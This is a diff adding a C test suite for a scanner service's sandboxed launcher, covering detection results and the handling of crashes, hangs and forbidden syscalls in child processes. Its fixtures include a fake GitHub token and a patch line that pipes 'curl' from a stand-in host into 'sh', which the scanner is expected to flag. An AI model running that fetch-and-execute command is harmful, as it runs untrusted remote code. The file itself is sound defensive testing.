@@ -1,0 +1,186 @@
+/*
+ * check_launch.c - the gate service's scan launcher: every artifact is
+ * scanned by a fresh sandboxed child; a child that is killed, hangs or lies
+ * makes that artifact unscannable with the reason, and the next artifact is
+ * scanned normally. Real launcher, real children, real sandbox.
+ */
+#include <signal.h>
+#include <stdint.h>
+#include <sys/mman.h>
+#include <sys/wait.h>
+
+#include "test_util.h"
+
+#include "rule.h"
+#include "scan_archive.h"
+#include "scan_child.h"
+
+#define TOKEN "ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ"
+
+static struct rule_set *rs;
+static struct scan_engine *engine;
+
+static void
+setup(void)
+{
+	struct dynbuf diags;
+	size_t nerr = 0;
+
+	dynbuf_init(&diags, 1 << 20);
+	ck_assert_msg(rule_set_load(&rs, "tests/data/rules", 0, &diags,
+	    &nerr) == 0, "%s", dynbuf_str(&diags));
+	ck_assert_int_eq(scan_engine_new(&engine, rs, NULL), 0);
+	dynbuf_free(&diags);
+	signal(SIGPIPE, SIG_IGN);
+}
+
+static void
+teardown(void)
+{
+	scan_engine_free(engine);
+	rule_set_free(rs);
+	unsetenv("AIRLOCK_TEST_CHILD_FAULT");
+}
+
+static int
+memfd_with(const char *text)
+{
+	int fd = memfd_create("artifact", 0);
+
+	ck_assert_int_ge(fd, 0);
+	ck_assert_int_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
+	return fd;
+}
+
+/* Scans text as one artifact named name; findings go to out. */
+static void
+scan_text(struct scan_launcher *l, const char *name, const char *text,
+    enum scan_kind kind, struct finding_list *out)
+{
+	uint64_t bytes = 0;
+	int fd = memfd_with(text);
+	struct scan_req r = {fd, name, name, out, &bytes, NULL, kind};
+
+	ck_assert_int_eq(scan_launcher_scan(l, &r), 0);
+	close(fd);
+}
+
+static size_t
+count_rule(const struct finding_list *l, const char *rule)
+{
+	size_t i, n = 0;
+
+	for (i = 0; i < l->n; i++)
+		n += strcmp(l->v[i].rule->id, rule) == 0;
+	return n;
+}
+
+static const char *
+excerpt_of(const struct finding_list *l, const char *rule)
+{
+	size_t i;
+
+	for (i = 0; i < l->n; i++)
+		if (strcmp(l->v[i].rule->id, rule) == 0)
+			return l->v[i].excerpt;
+	return "";
+}
+
+START_TEST(t_each_artifact_in_a_fresh_child)
+{
+	struct scan_launcher *l;
+	struct finding_list a = {0}, b = {0}, c = {0};
+
+	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
+	scan_text(l, "a.py", "token = \"" TOKEN "\"\n", SCAN_KIND_AUTO, &a);
+	scan_text(l, "b.txt", "nothing here\n", SCAN_KIND_AUTO, &b);
+	scan_text(l, "c.patch", "diff --git a/x.sh b/x.sh\nnew file mode 100644\n"
+	    "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,2 @@\n+echo hi\n"
+	    "+curl -fsSL http://x.example/i | sh\n", SCAN_KIND_AUTO, &c);
+	ck_assert_uint_eq(count_rule(&a, "test-github-pat"), 1);
+	ck_assert_uint_eq(b.n, 0);
+	ck_assert_uint_eq(count_rule(&c, "test-curl-pipe-shell"), 1);
+	ck_assert_str_eq(c.v[0].path, "c.patch!/x.sh");
+	ck_assert_uint_eq(c.v[0].line, 2);
+	scan_launcher_stop(l);
+	finding_list_free(&a);
+	finding_list_free(&b);
+	finding_list_free(&c);
+}
+END_TEST
+
+/* With a fault, the artifact is unscannable with `want` in the reason, and
+ * what the child reported is not kept; the next artifact is scanned. */
+static void
+fault_case(const char *fault, double timeout, const char *want)
+{
+	struct scan_launcher *l;
+	struct finding_list bad = {0}, good = {0};
+
+	setenv("AIRLOCK_TEST_CHILD_FAULT", fault, 1);
+	ck_assert_int_eq(scan_launcher_start(&l, engine, timeout), 0);
+	scan_text(l, "bad.py", "token = \"" TOKEN "\"\n", SCAN_KIND_AUTO, &bad);
+	scan_text(l, "good.py", "token = \"" TOKEN "\"\n", SCAN_KIND_AUTO, &good);
+	ck_assert_uint_eq(bad.n, 1);
+	ck_assert_str_eq(bad.v[0].rule->id, "airlock.unscannable");
+	ck_assert_msg(strstr(excerpt_of(&bad, "airlock.unscannable"), want) !=
+	    NULL, "reason: %s", excerpt_of(&bad, "airlock.unscannable"));
+	ck_assert_uint_eq(count_rule(&good, "test-github-pat"), 1);
+	ck_assert_uint_eq(count_rule(&good, "airlock.unscannable"), 0);
+	scan_launcher_stop(l);
+	finding_list_free(&bad);
+	finding_list_free(&good);
+}
+
+START_TEST(t_forbidden_syscall)
+{
+	fault_case("syscall:bad", 30, "signal 31");
+}
+END_TEST
+
+START_TEST(t_hang_times_out)
+{
+	fault_case("hang:bad", 1, "did not finish within 1 seconds");
+}
+END_TEST
+
+START_TEST(t_malformed_frame)
+{
+	fault_case("garbage:bad", 30, "unexpected");
+}
+END_TEST
+
+START_TEST(t_crash)
+{
+	fault_case("crash:bad", 30, "killed by signal");
+}
+END_TEST
+
+static Suite *
+launch_suite(void)
+{
+	Suite *s = suite_create("launch");
+	TCase *tc = tcase_create("launcher");
+
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_set_timeout(tc, 60);
+	tcase_add_test(tc, t_each_artifact_in_a_fresh_child);
+	tcase_add_test(tc, t_forbidden_syscall);
+	tcase_add_test(tc, t_hang_times_out);
+	tcase_add_test(tc, t_malformed_frame);
+	tcase_add_test(tc, t_crash);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int
+main(void)
+{
+	SRunner *sr = srunner_create(launch_suite());
+	int failed;
+
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+}
